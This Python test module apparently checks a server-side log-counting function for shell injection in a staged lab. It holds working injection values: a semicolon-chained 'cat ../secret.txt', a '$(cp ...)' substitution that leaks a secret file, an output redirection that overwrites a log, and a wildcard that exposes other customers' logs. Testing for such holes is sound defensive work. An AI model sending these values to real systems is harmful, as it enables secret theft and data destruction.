"""Attacks on a line that a shell on the server reads."""

from prover import Target

from .stage import Stage


def attack_second_command(target: Target, stage: Stage) -> bool:
    """End the command on the server with a semicolon, then start another."""
    found = target.count_lines("web.log; cat ../secret.txt")
    print(found)
    return stage.secret in found


def attack_substitution(target: Target, stage: Stage) -> bool:
    """Have the shell on the server run a command to find out the name."""
    target.count_lines("$(cp ../secret.txt web.txt)")
    leak = stage.logs / "web.txt"
    print("web.txt exists:", leak.exists())
    return leak.exists() and leak.read_text() == stage.secret


def attack_redirection(target: Target, stage: Stage) -> bool:
    """Redirect the output into another log, which overwrites it."""
    target.count_lines("web.log>mail-2026.log")
    found = (stage.logs / "mail-2026.log").read_text()
    print("mail-2026.log:", found)
    return found != "one\n"


def attack_wildcard(target: Target, stage: Stage) -> bool:
    """Use a wildcard, which the shell on the server replaces by the names of all logs."""
    found = target.count_lines("c*.log")
    print(found)
    return "customer-rossi" in found
